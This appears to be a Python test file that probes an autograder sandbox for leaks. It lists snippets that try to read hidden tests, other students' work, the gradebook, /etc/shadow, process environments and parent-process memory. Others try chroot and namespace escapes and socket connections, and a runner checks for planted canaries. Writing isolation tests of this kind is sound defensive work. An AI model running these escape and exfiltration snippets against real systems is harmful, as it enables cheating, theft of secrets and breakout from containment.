"""Reading what is not theirs: each prints all it finds; the runner looks for planted canaries."""

from corpus.submission import snippets

SHOW = """
def show(*paths):
    import os
    for path in paths:
        try:
            if os.path.isdir(path):
                print(path, os.listdir(path))
                for name in sorted(os.listdir(path))[:50]:
                    inner = os.path.join(path, name)
                    if os.path.isfile(inner):
                        print(inner, open(inner, errors="replace").read(200000))
            else:
                print(path, open(path, errors="replace").read(200000))
        except OSError as error:
            print(path, error)
"""
snippets(
    "reading",
    {
        "own notebook": SHOW + "show('nn.ipynb', '.', '..', '<course>/submitted')",
        "source": SHOW + "show('<course>/source/lab', '<course>/source/lab/nn.ipynb')",
        "hidden tests": SHOW + "show('<course>/hidden_tests/lab')",
        "other students": SHOW
        + "show('<course>/submitted/<victim>/lab', '<course>/autograded/<victim>/lab')",
        "gradebook": SHOW + "show('<course>/gradebook.db')\nimport sqlite3\ntry:\n"
        "    db = sqlite3.connect('<course>/gradebook.db')\n"
        "    print(list(db.execute('select * from student')))\n"
        "except Exception as e: print(e)",
        "home": SHOW + "show('<home>', '/root', '/home', '~')",
        "environment": "import os; print(dict(os.environ))",
        "environment of all processes": "import glob\nfor p in glob.glob('/proc/*/environ'):\n"
        "    try: print(p, open(p).read())\n    except OSError as e: print(p, e)",
        "memory of the parent": "import os, re\nfor pid in {os.getppid(), 1, <grader>}:\n"
        "    try:\n        for line in open(f'/proc/{pid}/maps'):\n"
        "            a, b = (int(x, 16) for x in line.split()[0].split('-'))\n"
        "            m = open(f'/proc/{pid}/mem', 'rb'); m.seek(a)\n"
        "            print(re.findall(b'canary[-a-z0-9]*', m.read(b - a)))\n"
        "    except Exception as e: print(pid, e)",
        "descriptors inherited": "import os\nfor fd in range(3, 600):\n    try:\n"
        "        print(fd, os.readlink(f'/proc/self/fd/{fd}'), os.pread(fd, 5000, 0))\n"
        "    except OSError: pass",
        "root of other processes": SHOW + "show(*(f'/proc/{p}/root<course>/source/lab' "
        "for p in range(1, 400)), *(f'/proc/{p}/cwd' for p in range(1, 400)))",
        "config": SHOW + "show('<course>/nbgrader_config.py', '<course>')",
        "log files": SHOW
        + "show('<course>/.nbgrader.log', '/var/log', '/tmp', '/run', '/var/tmp')",
        "kernel memory and devices": SHOW
        + "show('/dev/mem', '/dev/sda', '/dev/vda', '/proc/kcore',"
        " '/sys', '/boot')",
        "memory of the judge in this process": "import gc, sys\n"
        "print([m for m in sys.modules if 'nbjudge' in m or 'nbgrader' in m])\n"
        "print([str(o)[:3000] for o in gc.get_objects() if isinstance(o, str) and 'canary' in o])",
        "shell": 'import subprocess\nprint(subprocess.run(\'find / -name "*.ipynb" -o -name '
        '"gradebook*" 2>/dev/null | xargs cat 2>&1; cat /etc/passwd /etc/shadow; ps aux; mount; '
        "ls -la / <course> <home>', shell=True, capture_output=True, text=True))",
        "symbolic links followed": SHOW + "import os\nos.symlink('<course>', 'link')\n"
        "show('link', 'link/source/lab')",
        "open by handle": "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        "print(libc.open_by_handle_at(3, b'0' * 64, 0), ctypes.get_errno())",
        "chroot escape": SHOW + "import os\ntry:\n    os.mkdir('x'); os.chroot('x')\n"
        "    for _ in range(99): os.chdir('..')\nexcept OSError as e: print(e)\n"
        "show('<course>/source/lab')",
        "setns": "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        "for pid in (1, 2, <grader>):\n    try:\n"
        "        print(libc.setns(os.pidfd_open(pid), 0x20000), ctypes.get_errno())\n"
        "    except OSError as e: print(e)\nprint(os.path.exists('<course>'))",
    },
)
snippets(
    "network",
    {
        "tcp": "import socket\nfor host in ('127.0.0.1', 'localhost', '0.0.0.0', '::1'):\n"
        "    try: socket.create_connection((host, <tcp>), 1).send(b'leak')\n"
        "    except OSError as e: print(host, e)",
        "udp": "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "try: s.sendto(b'leak', ('127.0.0.1', <udp>))\nexcept OSError as e: print(e)",
        "abstract unix socket": "import socket\ns = socket.socket(socket.AF_UNIX)\n"
        "try: s.connect('\\0<abstract>')\nexcept OSError as e: print(e)",
        "unix socket in a folder": "import socket\ns = socket.socket(socket.AF_UNIX)\n"
        "try: s.connect('<home>/listen.sock')\nexcept OSError as e: print(e)",
        "vsock": "import socket\ntry:\n    s = socket.socket(40, socket.SOCK_STREAM)\n"
        "    s.settimeout(1); s.connect((2, 22)); print('connected to the host')\n"
        "except OSError as e: print(e)",
        "raw socket": "import socket\ntry: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)\n"
        "except OSError as e: print(e)",
        "urllib and pip": "import subprocess, sys, urllib.request\ntry:\n"
        "    urllib.request.urlopen('http://127.0.0.1:<tcp>/', timeout=1)\n"
        "except Exception as e: print(e)\n"
        "print(subprocess.run([sys.executable, '-m', 'pip', 'download', '--retries', '0', '--index-url', "
        "'http://127.0.0.1:<tcp>/', 'x'], capture_output=True, timeout=3))",
        "other kernels' sockets": "import glob, socket, os\n"
        "for path in glob.glob('/tmp/nbjudge-*/**', recursive=True) + glob.glob('/sockets/../*/s/*'):\n"
        "    print(path)",
    },
)
